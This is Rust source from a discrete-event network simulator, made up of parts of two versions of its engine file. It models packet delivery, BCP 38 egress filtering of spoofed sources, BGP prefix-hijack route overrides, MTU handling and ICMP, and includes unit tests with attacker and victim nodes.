        if let Some((_, _, node)) = best {
            return Some(node);
        }
        self.addr_map.get(&addr).copied()
    }

    /// Schedules a timer for a node, from outside the node itself.
    pub fn schedule_timer(&mut self, node: NodeId, delay: Duration, token: u64) {
        let time = self.now + delay;
        self.push_event(time, EventKind::Timer { node, token });
    }

    /// Injects a packet as if `from` had sent it right now.
    pub fn inject(&mut self, from: NodeId, pkt: Ipv4Packet) {
        self.dispatch(from, pkt);
    }

    fn push_event(&mut self, time: SimTime, kind: EventKind) {
        let seq = self.seq;
        self.seq += 1;
        self.events.push(Reverse(Event { time, seq, kind }));
    }

    /// Routes and schedules one packet sent by `from`.
    fn dispatch(&mut self, from: NodeId, pkt: Ipv4Packet) {
        let wire_len = pkt.wire_len();
        let protocol = pkt.header.protocol;
        let from_name = self.nodes[from.0].name.clone();
        self.nodes[from.0].stats.record_sent(protocol, wire_len);

        // Egress filtering of spoofed sources (BCP 38).
        if self.nodes[from.0].egress_filtering && !self.nodes[from.0].addrs.contains(&pkt.header.src) {
            self.nodes[from.0].stats.spoofed_filtered += 1;
            self.trace.record_packet(self.now, &from_name, "-", &pkt, TraceVerdict::EgressFiltered);
            return;
        }

        // Routing (route overrides model hijacked prefixes).
        let Some(to) = self.route_lookup(pkt.header.dst) else {
            self.nodes[from.0].stats.dropped_in_transit += 1;
            self.trace.record_packet(self.now, &from_name, "-", &pkt, TraceVerdict::NoRoute);
            return;
        };
        let to_name = self.nodes[to.0].name.clone();
        let link = *self.links.get(&(from, to)).unwrap_or(&self.default_link);

        // Random loss.
        if link.loss > 0.0 && self.rng.gen::<f64>() < link.loss {
            self.nodes[from.0].stats.dropped_in_transit += 1;
            self.trace.record_packet(self.now, &from_name, &to_name, &pkt, TraceVerdict::LinkLoss);
            return;
        }

        // MTU handling by the "router" on the link.
        if pkt.wire_len() > usize::from(link.mtu) {
            if pkt.header.dont_fragment || !link.fragment_in_transit {
                self.nodes[from.0].stats.dropped_in_transit += 1;
                self.trace.record_packet(self.now, &from_name, &to_name, &pkt, TraceVerdict::MtuExceeded);
                // Generate an ICMP fragmentation-needed back to the sender,
                // originated "by the network" (source = destination address of
                // the oversized packet, a common real-world pattern for
                // unnumbered router interfaces).
                let ptb = IcmpMessage::fragmentation_needed(&pkt, link.mtu).into_packet(
                    pkt.header.dst,
                    pkt.header.src,
                    self.rng.gen(),
                    64,
                );
                let time = self.now + link.latency;
                self.push_event(time, EventKind::Deliver { to: from, from_name: "router".to_string(), pkt: ptb });
                return;
            }
            // Fragment in transit.
            for frag in frag::fragment_packet(&pkt, link.mtu) {
                let time = self.now + link.latency;
                self.push_event(time, EventKind::Deliver { to, from_name: from_name.clone(), pkt: frag });
            }
            return;
        }

        let time = self.now + link.latency;
        self.push_event(time, EventKind::Deliver { to, from_name, pkt });
    }

    fn start_nodes(&mut self) {
        if self.started {
            return;
        }
        self.started = true;
        for idx in 0..self.nodes.len() {
            let id = NodeId(idx);
            self.with_node_ctx(id, |node, ctx| node.on_start(ctx));
        }
    }

    /// Runs a node callback with a freshly built [`Ctx`], then dispatches the
    /// side effects it produced.
    fn with_node_ctx(&mut self, id: NodeId, f: impl FnOnce(&mut dyn Node, &mut Ctx<'_>)) {
        let (outgoing, timers) = {
            let Simulator { nodes, rng, now, .. } = self;
            let slot = &mut nodes[id.0];
            let mut ctx =
                Ctx { now: *now, self_id: id, addrs: &slot.addrs, rng, outgoing: Vec::new(), timers: Vec::new() };
            f(slot.node.as_mut(), &mut ctx);
            (ctx.outgoing, ctx.timers)
        };
        for pkt in outgoing {
            self.dispatch(id, pkt);
        }
        for (delay, token) in timers {
            let time = self.now + delay;
            self.push_event(time, EventKind::Timer { node: id, token });
        }
    }

    /// Processes a single event. Returns `false` when the event queue is empty.
    pub fn step(&mut self) -> bool {
        self.start_nodes();
        let Some(Reverse(event)) = self.events.pop() else {
            return false;
        };
        self.now = event.time;
        match event.kind {
            EventKind::Deliver { to, from_name, pkt } => {
                let to_name = self.nodes[to.0].name.clone();
                self.nodes[to.0].stats.record_received(pkt.header.protocol, pkt.wire_len());
                self.trace.record_packet(self.now, &from_name, &to_name, &pkt, TraceVerdict::Delivered);
                self.with_node_ctx(to, |node, ctx| node.on_packet(ctx, pkt));
            }
            EventKind::Timer { node, token } => {
                self.with_node_ctx(node, |n, ctx| n.on_timer(ctx, token));
            }
        }
        true
    }

    /// Runs until the event queue is exhausted.
    pub fn run(&mut self) {
        while self.step() {}
    }

    /// Runs until the event queue is exhausted or the clock passes `deadline`.
    pub fn run_until(&mut self, deadline: SimTime) {
        self.start_nodes();
        while let Some(Reverse(ev)) = self.events.peek() {
            if ev.time > deadline {
                break;
            }
            self.step();
        }
        if self.now < deadline {
            self.now = deadline;
        }
    }

    /// Runs for `d` of simulated time from the current clock.
    pub fn run_for(&mut self, d: Duration) {
        let deadline = self.now + d;
        self.run_until(deadline);
    }

    /// Number of events still queued.
    pub fn pending_events(&self) -> usize {
        self.events.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::udp::UdpDatagram;

    const A: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const B: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);
    const C: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 3);

    fn udp(src: Ipv4Addr, dst: Ipv4Addr, len: usize) -> Ipv4Packet {
        UdpDatagram::new(src, dst, 1111, 2222, vec![0u8; len]).into_packet(1, 64)
    }

    #[test]
    fn delivers_between_nodes() {
        let mut sim = Simulator::new(1);
        let a = sim.add_node("a", vec![A], EchoNode::default());
        let b = sim.add_node("b", vec![B], EchoNode::default());
        sim.connect(a, b, Link::with_latency(Duration::from_millis(7)));
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(b).udp_received, 1);
        assert_eq!(sim.stats(a).udp_sent, 1);
        assert_eq!(sim.now(), SimTime::ZERO + Duration::from_millis(7));
        assert_eq!(sim.node_ref::<EchoNode>(b).unwrap().udp_seen, 1);
    }

    #[test]
    fn echo_node_answers_ping() {
        let mut sim = Simulator::new(2);
        let a = sim.add_node("a", vec![A], SinkNode::default());
        let b = sim.add_node("b", vec![B], EchoNode::default());
        sim.connect(a, b, Link::default());
        let ping = IcmpMessage::EchoRequest { id: 1, seq: 1, payload: vec![] }.into_packet(A, B, 5, 64);
        sim.inject(a, ping);
        sim.run();
        assert_eq!(sim.node_ref::<EchoNode>(b).unwrap().pings_answered, 1);
        assert_eq!(sim.node_ref::<SinkNode>(a).unwrap().received, 1, "echo reply came back");
        assert_eq!(sim.stats(a).icmp_received, 1);
    }

    #[test]
    fn no_route_packets_are_dropped() {
        let mut sim = Simulator::new(3);
        let a = sim.add_node("a", vec![A], EchoNode::default());
        sim.inject(a, udp(A, "99.99.99.99".parse().unwrap(), 10));
        sim.run();
        assert_eq!(sim.stats(a).dropped_in_transit, 1);
        assert_eq!(sim.trace().matching("UDP").len(), 1);
    }

    #[test]
    fn egress_filtering_drops_spoofed_sources() {
        let mut sim = Simulator::new(4);
        let a = sim.add_node("attacker", vec![A], EchoNode::default());
        let b = sim.add_node("victim", vec![B], EchoNode::default());
        sim.connect(a, b, Link::default());
        sim.set_egress_filtering(a, true);
        // Spoofed packet (source C not owned by attacker) is filtered...
        sim.inject(a, udp(C, B, 10));
        // ...but a non-spoofed one passes.
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(a).spoofed_filtered, 1);
        assert_eq!(sim.stats(b).udp_received, 1);
    }

    #[test]
    fn spoofing_allowed_without_egress_filtering() {
        let mut sim = Simulator::new(5);
        let a = sim.add_node("attacker", vec![A], EchoNode::default());
        let b = sim.add_node("victim", vec![B], EchoNode::default());
        sim.connect(a, b, Link::default());
        sim.inject(a, udp(C, B, 10));
        sim.run();
        assert_eq!(sim.stats(b).udp_received, 1);
        assert_eq!(sim.stats(a).spoofed_filtered, 0);
    }

    #[test]
    fn route_override_hijacks_traffic() {
        let mut sim = Simulator::new(6);
        let a = sim.add_node("client", vec![A], EchoNode::default());
        let b = sim.add_node("victim-ns", vec![B], EchoNode::default());
        let h = sim.add_node("hijacker", vec![C], EchoNode::default());
        sim.connect(a, b, Link::default());
        sim.connect(a, h, Link::default());
        // Sub-prefix hijack of the /32 covering B.
        sim.set_route_override(Prefix::host(B), h);
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(h).udp_received, 1, "traffic goes to the hijacker");
        assert_eq!(sim.stats(b).udp_received, 0);
        // Withdraw the hijack: traffic flows normally again.
        sim.clear_route_override(Prefix::host(B));
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(b).udp_received, 1);
    }

    #[test]
    fn more_specific_override_wins() {
        let mut sim = Simulator::new(7);
        let a = sim.add_node("a", vec![A], EchoNode::default());
        let b = sim.add_node("b", vec![B], EchoNode::default());
        let h1 = sim.add_node("h1", vec![Ipv4Addr::new(9, 0, 0, 1)], EchoNode::default());
        let h2 = sim.add_node("h2", vec![Ipv4Addr::new(9, 0, 0, 2)], EchoNode::default());
        let _ = b;
        sim.set_route_override("10.0.0.0/8".parse().unwrap(), h1);
        sim.set_route_override("10.0.0.0/24".parse().unwrap(), h2);
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(h2).udp_received, 1);
        assert_eq!(sim.stats(h1).udp_received, 0);
    }

    #[test]
    fn oversized_df_packet_triggers_icmp_ptb() {
        let mut sim = Simulator::new(8);
        let a = sim.add_node("a", vec![A], SinkNode::default());
        let b = sim.add_node("b", vec![B], SinkNode::default());
        sim.connect(a, b, Link::default().mtu(576));
        let mut pkt = udp(A, B, 1000);
        pkt.header.dont_fragment = true;
        sim.inject(a, pkt);
        sim.run();
        // The oversized packet never reaches b; a receives an ICMP PTB.
        assert_eq!(sim.stats(b).packets_received, 0);
        assert_eq!(sim.stats(a).icmp_received, 1);
        assert_eq!(sim.stats(a).dropped_in_transit, 1);
    }

    #[test]
    fn oversized_packet_without_df_fragmented_in_transit() {
        let mut sim = Simulator::new(9);
        let a = sim.add_node("a", vec![A], SinkNode::default());
        let b = sim.add_node("b", vec![B], SinkNode::default());
        sim.connect(a, b, Link::default().mtu(576));
        sim.inject(a, udp(A, B, 1400));
        sim.run();
        assert!(sim.stats(b).packets_received >= 3, "fragments delivered separately");
    }

    #[test]
    fn lossy_link_drops_packets_deterministically() {
        let mut sim = Simulator::new(10);
        let a = sim.add_node("a", vec![A], SinkNode::default());
        let b = sim.add_node("b", vec![B], SinkNode::default());
        sim.connect(a, b, Link::default().loss(1.0));
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(b).packets_received, 0);
        assert_eq!(sim.stats(a).dropped_in_transit, 1);
    }

    #[test]
    fn timers_fire_in_order() {
        #[derive(Default)]
        struct TimerNode {
            fired: Vec<u64>,
        }
        impl Node for TimerNode {
            fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _pkt: Ipv4Packet) {}
            fn on_timer(&mut self, _ctx: &mut Ctx<'_>, token: u64) {
                self.fired.push(token);
            }
        }
        let mut sim = Simulator::new(11);
        let n = sim.add_node("t", vec![A], TimerNode::default());
        sim.schedule_timer(n, Duration::from_millis(20), 2);
        sim.schedule_timer(n, Duration::from_millis(10), 1);
        sim.schedule_timer(n, Duration::from_millis(30), 3);
        sim.run();
        assert_eq!(sim.node_ref::<TimerNode>(n).unwrap().fired, vec![1, 2, 3]);
    }

    #[test]
    fn on_start_runs_before_first_delivery() {
        struct Starter {
            started_at: Option<SimTime>,
        }
        impl Node for Starter {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                self.started_at = Some(ctx.now());
                ctx.set_timer(Duration::from_millis(1), 99);
            }
            fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _pkt: Ipv4Packet) {}
        }
        let mut sim = Simulator::new(12);
        let n = sim.add_node("s", vec![A], Starter { started_at: None });
        sim.run();
        assert_eq!(sim.node_ref::<Starter>(n).unwrap().started_at, Some(SimTime::ZERO));
    }

    #[test]
    fn run_until_stops_at_deadline() {
        let mut sim = Simulator::new(13);
        let a = sim.add_node("a", vec![A], EchoNode::default());
        let b = sim.add_node("b", vec![B], EchoNode::default());
        sim.connect(a, b, Link::with_latency(Duration::from_secs(10)));
        sim.inject(a, udp(A, B, 10));
        sim.run_until(SimTime::from_secs(1));
        assert_eq!(sim.stats(b).udp_received, 0);
        assert_eq!(sim.pending_events(), 1);
        sim.run();
        assert_eq!(sim.stats(b).udp_received, 1);
    }

    #[test]
    fn determinism_same_seed_same_trace() {
        fn run_once(seed: u64) -> Vec<String> {
            let mut sim = Simulator::new(seed);
            let a = sim.add_node("a", vec![A], EchoNode::default());
            let b = sim.add_node("b", vec![B], EchoNode::default());
            sim.connect(a, b, Link::default().loss(0.5));
            for i in 0..20 {
                sim.inject(a, udp(A, B, 10 + i));
            }
            sim.run();
            sim.trace().entries().iter().map(|e| e.to_string()).collect()
        }
        assert_eq!(run_once(42), run_once(42));
        assert_ne!(run_once(42), run_once(43));
    }
}
