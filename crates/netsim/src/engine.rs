//! The discrete-event simulation engine.
//!
//! The engine owns all simulated hosts ([`Node`] implementations), delivers
//! IPv4 packets between them over [`Link`]s, enforces **egress filtering** of
//! spoofed source addresses, honours **route overrides** (the data-plane
//! effect of a successful BGP prefix hijack: traffic for a prefix is handed
//! to the hijacker instead of the legitimate owner), performs router-side MTU
//! handling (ICMP fragmentation-needed or in-transit fragmentation), records
//! a packet [`Trace`] and keeps per-node [`TrafficStats`].
//!
//! Determinism: all randomness is drawn from a single seeded ChaCha20 RNG and
//! ties between simultaneous events are broken by insertion order, so a given
//! seed always reproduces the same packet interleaving.
//!
//! ## Scale: the arena host table and the time wheel
//!
//! Full [`Node`]s are boxed trait objects with their own stacks — ideal for
//! resolvers and attackers, far too heavy for a million background clients.
//! **Stub blocks** ([`Simulator::add_stub_block`]) register a contiguous
//! IPv4 range whose hosts live as plain [`StubState`] entries in one flat
//! arena, all driven by a single shared [`StubHandler`]. Address lookup for a
//! stub is arithmetic on the block base rather than a hash probe, stub
//! timers carry a typed [`StubTimer`] token namespaced by [`StubId`] (two
//! clients can never alias each other's retransmit timers), and delivered
//! packet buffers are recycled through [`crate::pool`]. The event queue
//! itself is a hierarchical [`TimeWheel`](crate::wheel::TimeWheel) keyed by
//! `(SimTime, seq)` — identical pop order to the old binary heap, `O(1)`
//! scheduling.

use crate::fasthash::FastHashMap;
use crate::ipv4::{Ipv4Packet, Protocol};
use crate::link::Link;
use crate::pool;
use crate::prefix::Prefix;
use crate::stats::TrafficStats;
use crate::time::{Duration, SimTime};
use crate::trace::{Trace, TraceVerdict};
use crate::wheel::TimeWheel;
use crate::{frag, icmp::IcmpMessage};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha20Rng;
use std::any::Any;
use std::net::Ipv4Addr;

/// Identifier of a node registered with a [`Simulator`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct NodeId(pub usize);

/// Identifier of a stub client in the arena host table: a flat index across
/// all stub blocks, in registration order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct StubId(pub u32);

/// Object-safe downcasting support, blanket-implemented for every node type.
pub trait AsAny {
    /// `&self` as `&dyn Any`.
    fn as_any(&self) -> &dyn Any;
    /// `&mut self` as `&mut dyn Any`.
    fn as_any_mut(&mut self) -> &mut dyn Any;
}

impl<T: Any> AsAny for T {
    fn as_any(&self) -> &dyn Any {
        self
    }
    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

/// A simulated host (or middlebox, or attacker machine).
///
/// Nodes react to delivered packets and to timers they scheduled earlier; all
/// side effects (sending packets, scheduling more timers) go through the
/// [`Ctx`] handed to each callback.
pub trait Node: AsAny + 'static {
    /// Called when a packet addressed (or routed) to this node is delivered.
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, pkt: Ipv4Packet);

    /// Called when a timer previously scheduled via [`Ctx::set_timer`] fires.
    ///
    /// Timer tokens are namespaced per node: the engine carries the owning
    /// [`NodeId`] in the event, so two nodes using the same `u64` token can
    /// never receive each other's timers.
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        let _ = (ctx, token);
    }

    /// Called once when the simulation starts (before any packet delivery),
    /// allowing nodes to arm initial timers.
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        let _ = ctx;
    }
}

/// Side-effect collector handed to [`Node`] callbacks.
pub struct Ctx<'a> {
    now: SimTime,
    self_id: NodeId,
    addrs: &'a [Ipv4Addr],
    rng: &'a mut ChaCha20Rng,
    outgoing: Vec<Ipv4Packet>,
    timers: Vec<(Duration, u64)>,
}

impl<'a> Ctx<'a> {
    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// The node's own identifier.
    pub fn self_id(&self) -> NodeId {
        self.self_id
    }

    /// Addresses owned by this node.
    pub fn addrs(&self) -> &[Ipv4Addr] {
        self.addrs
    }

    /// The node's primary address.
    pub fn primary_addr(&self) -> Ipv4Addr {
        self.addrs.first().copied().unwrap_or(Ipv4Addr::UNSPECIFIED)
    }

    /// Queues a packet for transmission from this node.
    ///
    /// Spoofed source addresses are permitted here; whether they survive
    /// depends on the node's egress-filtering setting in the engine.
    pub fn send(&mut self, pkt: Ipv4Packet) {
        self.outgoing.push(pkt);
    }

    /// Schedules a timer `delay` from now with an opaque token. The token
    /// space is private to this node (see [`Node::on_timer`]).
    pub fn set_timer(&mut self, delay: Duration, token: u64) {
        self.timers.push((delay, token));
    }

    /// Deterministic per-simulation RNG.
    pub fn rng(&mut self) -> &mut ChaCha20Rng {
        self.rng
    }
}

/// A typed timer token for stub clients.
///
/// The flat `u64` tokens of [`Ctx::set_timer`] are safe for full nodes
/// because the engine namespaces them by [`NodeId`]; a farm of 10⁶ stub
/// clients gets the same guarantee structurally: every stub timer event
/// carries the owning [`StubId`] plus this typed token, so clients cannot
/// alias each other's retransmit timers no matter what `kind`/`data` values
/// the shared handler picks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct StubTimer {
    /// Handler-defined timer class (e.g. "next query", "retransmit").
    pub kind: u8,
    /// Handler-defined payload (e.g. a transaction id or name index).
    pub data: u32,
}

/// Per-stub-client state: one flat arena entry, no allocation, no `Box`.
#[derive(Debug, Clone, Copy)]
pub struct StubState {
    /// The client's IPv4 address (block base + index).
    pub addr: Ipv4Addr,
    /// Packets this stub has sent.
    pub sent: u32,
    /// Packets delivered to this stub.
    pub received: u32,
    /// Handler-defined failure counter (timeouts, SERVFAILs...).
    pub failed: u32,
    /// Handler-defined scratch word (e.g. outstanding query txid/state).
    pub data: u64,
}

/// The single behaviour shared by every stub client in a simulation.
///
/// Unlike [`Node`], a handler is registered once per simulator and invoked
/// with the per-client [`StubState`] — a million clients cost a million arena
/// entries, not a million boxed trait objects.
pub trait StubHandler: 'static {
    /// Called once per stub when the simulation starts (after all full
    /// nodes' [`Node::on_start`], in arena order).
    fn on_start(&mut self, ctx: &mut StubCtx<'_>) {
        let _ = ctx;
    }

    /// Called when a timer scheduled via [`StubCtx::set_timer`] fires for
    /// this stub.
    fn on_timer(&mut self, ctx: &mut StubCtx<'_>, timer: StubTimer) {
        let _ = (ctx, timer);
    }

    /// Called when a packet is delivered to this stub. The packet is
    /// borrowed: its buffers are recycled by the engine afterwards.
    fn on_packet(&mut self, ctx: &mut StubCtx<'_>, pkt: &Ipv4Packet);
}

/// Side-effect collector handed to [`StubHandler`] callbacks.
pub struct StubCtx<'a> {
    now: SimTime,
    id: StubId,
    state: &'a mut StubState,
    rng: &'a mut ChaCha20Rng,
    outgoing: &'a mut Vec<Ipv4Packet>,
    timers: &'a mut Vec<(Duration, StubTimer)>,
}

impl<'a> StubCtx<'a> {
    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// This stub's identifier.
    pub fn id(&self) -> StubId {
        self.id
    }

    /// This stub's IPv4 address.
    pub fn addr(&self) -> Ipv4Addr {
        self.state.addr
    }

    /// This stub's state.
    pub fn state(&self) -> &StubState {
        self.state
    }

    /// Mutable access to this stub's state.
    pub fn state_mut(&mut self) -> &mut StubState {
        self.state
    }

    /// Queues a packet for transmission from this stub.
    pub fn send(&mut self, pkt: Ipv4Packet) {
        self.outgoing.push(pkt);
    }

    /// Schedules a typed timer `delay` from now for this stub.
    pub fn set_timer(&mut self, delay: Duration, timer: StubTimer) {
        self.timers.push((delay, timer));
    }

    /// Deterministic per-simulation RNG.
    pub fn rng(&mut self) -> &mut ChaCha20Rng {
        self.rng
    }
}

/// A trivial node that answers ICMP echo requests and otherwise ignores
/// traffic. Useful as a placeholder destination in examples and tests.
#[derive(Debug, Default)]
pub struct EchoNode {
    /// Number of UDP datagrams this node has seen.
    pub udp_seen: u64,
    /// Number of echo requests answered.
    pub pings_answered: u64,
}

impl Node for EchoNode {
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, pkt: Ipv4Packet) {
        match pkt.header.protocol {
            Protocol::Udp => self.udp_seen += 1,
            Protocol::Icmp => {
                if let Ok(IcmpMessage::EchoRequest { id, seq, payload }) = IcmpMessage::decode(&pkt.payload) {
                    self.pings_answered += 1;
                    let reply = IcmpMessage::EchoReply { id, seq, payload }.into_packet(
                        pkt.header.dst,
                        pkt.header.src,
                        ctx.rng().gen(),
                        64,
                    );
                    ctx.send(reply);
                }
            }
            _ => {}
        }
    }
}

/// A node that swallows every packet (a blackhole).
#[derive(Debug, Default)]
pub struct SinkNode {
    /// Packets swallowed.
    pub received: u64,
}

impl Node for SinkNode {
    fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _pkt: Ipv4Packet) {
        self.received += 1;
    }
}

struct NodeSlot {
    name: String,
    node: Box<dyn Node>,
    addrs: Vec<Ipv4Addr>,
    egress_filtering: bool,
    stats: TrafficStats,
}

/// A contiguous range of arena-hosted stub clients.
struct StubBlock {
    name: String,
    /// Block base address as a big-endian u32.
    base: u32,
    /// Number of clients in the block.
    count: u32,
    /// Arena index of the first client.
    first: u32,
    /// Aggregate traffic counters for the whole block.
    stats: TrafficStats,
}

/// Who sent a packet (for stats, egress filtering and trace labels).
#[derive(Debug, Clone, Copy)]
enum Origin {
    Node(NodeId),
    Stub(StubId),
    /// ICMP errors originated by the network itself (PTB from a link router).
    Router,
}

/// Who receives a packet.
#[derive(Debug, Clone, Copy)]
enum HostRef {
    Node(NodeId),
    Stub(StubId),
}

enum EventKind {
    Deliver { to: HostRef, from: Origin, pkt: Ipv4Packet },
    Timer { node: NodeId, token: u64 },
    StubTimer { stub: StubId, timer: StubTimer },
}

/// Engine-level event and packet-verdict counters, updated on the same code
/// paths that decide each [`TraceVerdict`]. Unlike the packet [`Trace`] these
/// are always on (a handful of integer adds per packet) and unlike the pool
/// counters they live on the simulator itself, so they are deterministic per
/// seed and safe to fold into shard-merged telemetry snapshots.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct EngineCounters {
    /// Events popped from the time wheel by [`Simulator::step`].
    pub events_popped: u64,
    /// Packets delivered to a node or stub client.
    pub delivered: u64,
    /// Packets dropped because no host owns the destination address.
    pub no_route: u64,
    /// Packets dropped by link loss.
    pub link_loss: u64,
    /// Spoofed packets dropped by egress filtering.
    pub egress_filtered: u64,
    /// Packets dropped for exceeding the link MTU with DF set.
    pub mtu_exceeded: u64,
}

/// The simulation engine. See the [module documentation](self) for an overview.
pub struct Simulator {
    nodes: Vec<NodeSlot>,
    addr_map: FastHashMap<Ipv4Addr, NodeId>,
    route_overrides: Vec<(Prefix, NodeId)>,
    links: FastHashMap<(NodeId, NodeId), Link>,
    default_link: Link,
    stub_link: Link,
    stub_blocks: Vec<StubBlock>,
    stubs: Vec<StubState>,
    stub_handler: Option<Box<dyn StubHandler>>,
    stub_out_scratch: Vec<Ipv4Packet>,
    stub_timer_scratch: Vec<(Duration, StubTimer)>,
    events: TimeWheel<EventKind>,
    now: SimTime,
    seq: u64,
    rng: ChaCha20Rng,
    trace: Trace,
    counters: EngineCounters,
    started: bool,
}

impl Simulator {
    /// Creates an empty simulator with a deterministic seed.
    pub fn new(seed: u64) -> Self {
        Simulator {
            nodes: Vec::new(),
            addr_map: FastHashMap::default(),
            route_overrides: Vec::new(),
            links: FastHashMap::default(),
            default_link: Link::default(),
            stub_link: Link::default(),
            stub_blocks: Vec::new(),
            stubs: Vec::new(),
            stub_handler: None,
            stub_out_scratch: Vec::new(),
            stub_timer_scratch: Vec::new(),
            events: TimeWheel::new(),
            now: SimTime::ZERO,
            seq: 0,
            rng: ChaCha20Rng::seed_from_u64(seed),
            trace: Trace::new(),
            counters: EngineCounters::default(),
            started: false,
        }
    }

    /// Registers a node owning the given addresses. Egress filtering is
    /// disabled by default (the attacker model assumes a non-filtering
    /// network; victims can enable it via [`Simulator::set_egress_filtering`]).
    ///
    /// # Panics
    ///
    /// Panics when an address is already owned by another node or falls
    /// inside a registered stub block — a silently stolen address misroutes
    /// traffic with no diagnostic, so duplicate registration is a bug in the
    /// scenario, not a tolerable condition.
    pub fn add_node(&mut self, name: &str, addrs: Vec<Ipv4Addr>, node: impl Node) -> NodeId {
        let id = NodeId(self.nodes.len());
        for &a in &addrs {
            if let Some(owner) = self.addr_map.get(&a) {
                panic!(
                    "duplicate address registration: {a} is owned by node {:?} but {name:?} also claims it",
                    self.nodes[owner.0].name
                );
            }
            if let Some(stub) = self.stub_lookup(a) {
                let block = &self.stub_blocks[self.block_of_stub(stub)];
                panic!(
                    "duplicate address registration: {a} belongs to stub block {:?} but node {name:?} also claims it",
                    block.name
                );
            }
            self.addr_map.insert(a, id);
        }
        self.nodes.push(NodeSlot {
            name: name.to_string(),
            node: Box::new(node),
            addrs,
            egress_filtering: false,
            stats: TrafficStats::default(),
        });
        id
    }

    /// Registers a contiguous block of `count` stub clients with addresses
    /// `base .. base + count`, returning the [`StubId`] of the first. The
    /// clients share the simulator-wide [`StubHandler`] (see
    /// [`Simulator::set_stub_handler`]).
    ///
    /// # Panics
    ///
    /// Panics when the range wraps the IPv4 address space, overlaps an
    /// existing stub block, or contains an address already owned by a node.
    pub fn add_stub_block(&mut self, name: &str, base: Ipv4Addr, count: u32) -> StubId {
        assert!(count > 0, "stub block {name:?} must hold at least one client");
        let base_u = u32::from(base);
        assert!(base_u.checked_add(count - 1).is_some(), "stub block {name:?} wraps the IPv4 address space");
        for block in &self.stub_blocks {
            let overlaps = base_u < block.base.saturating_add(block.count) && block.base < base_u.saturating_add(count);
            if overlaps {
                panic!("stub block {name:?} overlaps existing stub block {:?}", block.name);
            }
        }
        for (&addr, owner) in &self.addr_map {
            let a = u32::from(addr);
            if a >= base_u && a - base_u < count {
                panic!(
                    "duplicate address registration: {addr} is owned by node {:?} but stub block {name:?} covers it",
                    self.nodes[owner.0].name
                );
            }
        }
        let first = self.stubs.len() as u32;
        self.stubs.reserve(count as usize);
        for i in 0..count {
            self.stubs.push(StubState { addr: Ipv4Addr::from(base_u + i), sent: 0, received: 0, failed: 0, data: 0 });
        }
        self.stub_blocks.push(StubBlock {
            name: name.to_string(),
            base: base_u,
            count,
            first,
            stats: TrafficStats::default(),
        });
        StubId(first)
    }

    /// Installs the behaviour shared by every stub client.
    pub fn set_stub_handler(&mut self, handler: impl StubHandler) {
        self.stub_handler = Some(Box::new(handler));
    }

    /// Sets the link parameters used for all traffic to or from stub clients.
    pub fn set_stub_link(&mut self, link: Link) {
        self.stub_link = link;
    }

    /// Number of stub clients across all blocks.
    pub fn stub_count(&self) -> usize {
        self.stubs.len()
    }

    /// State of one stub client.
    pub fn stub_state(&self, id: StubId) -> &StubState {
        &self.stubs[id.0 as usize]
    }

    /// All stub states, in arena order.
    pub fn stub_states(&self) -> &[StubState] {
        &self.stubs
    }

    /// Aggregate traffic counters of the stub block containing `id`.
    pub fn stub_block_stats(&self, id: StubId) -> &TrafficStats {
        &self.stub_blocks[self.block_of_stub(id)].stats
    }

    /// The stub client owning `addr`, if any.
    pub fn stub_lookup(&self, addr: Ipv4Addr) -> Option<StubId> {
        let a = u32::from(addr);
        // A simulation holds a handful of blocks at most: a linear scan beats
        // a hash probe and needs no ordering invariant.
        for block in &self.stub_blocks {
            if a >= block.base && a - block.base < block.count {
                return Some(StubId(block.first + (a - block.base)));
            }
        }
        None
    }

    fn block_of_stub(&self, id: StubId) -> usize {
        self.stub_blocks.iter().position(|b| id.0 >= b.first && id.0 - b.first < b.count).expect("stub id out of range")
    }

    /// Enables or disables egress filtering (BCP 38) for a node: when enabled,
    /// packets whose source address the node does not own are dropped.
    pub fn set_egress_filtering(&mut self, id: NodeId, enabled: bool) {
        self.nodes[id.0].egress_filtering = enabled;
    }

    /// Sets the default link used between nodes with no explicit link.
    pub fn set_default_link(&mut self, link: Link) {
        self.default_link = link;
    }

    /// Installs a (bidirectional) link between two nodes.
    pub fn connect(&mut self, a: NodeId, b: NodeId, link: Link) {
        self.links.insert((a, b), link);
        self.links.insert((b, a), link);
    }

    /// Installs an asymmetric link from `a` to `b` only.
    pub fn connect_directed(&mut self, a: NodeId, b: NodeId, link: Link) {
        self.links.insert((a, b), link);
    }

    /// Installs a data-plane route override: traffic destined to `prefix` is
    /// delivered to `node` regardless of address ownership. This is how a
    /// successful BGP (sub-)prefix hijack manifests to the hosts. More
    /// specific prefixes win; equal-length prefixes favour the most recently
    /// installed override.
    pub fn set_route_override(&mut self, prefix: Prefix, node: NodeId) {
        self.route_overrides.push((prefix, node));
    }

    /// Removes all route overrides covering the given prefix exactly.
    pub fn clear_route_override(&mut self, prefix: Prefix) {
        self.route_overrides.retain(|(p, _)| *p != prefix);
    }

    /// Removes every route override (hijack withdrawn).
